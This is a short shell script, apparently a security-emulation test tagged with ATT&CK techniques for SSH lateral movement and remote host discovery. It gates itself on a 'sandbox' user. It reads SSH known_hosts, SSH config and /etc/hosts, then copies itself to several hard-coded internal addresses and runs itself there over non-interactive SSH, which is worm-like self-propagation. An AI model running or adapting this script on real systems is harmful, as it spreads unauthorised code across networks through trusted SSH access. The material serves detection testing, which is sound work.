#!/bin/sh
# technique: T1021.004 T1018
# needs: ssh scp
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cat "$HOME/.ssh/known_hosts" "$HOME/.ssh/config" /etc/hosts | awk '{print $1}' > hosts; printf '10.7.1.1\n10.7.1.2\n10.7.1.3\n10.7.1.4\n' >> hosts; for h in $(tail -4 hosts); do timeout 2 scp -o BatchMode=yes -o ConnectTimeout=1 "$0" $h:/tmp/.x; timeout 2 ssh -o BatchMode=yes -o ConnectTimeout=1 $h /tmp/.x; done
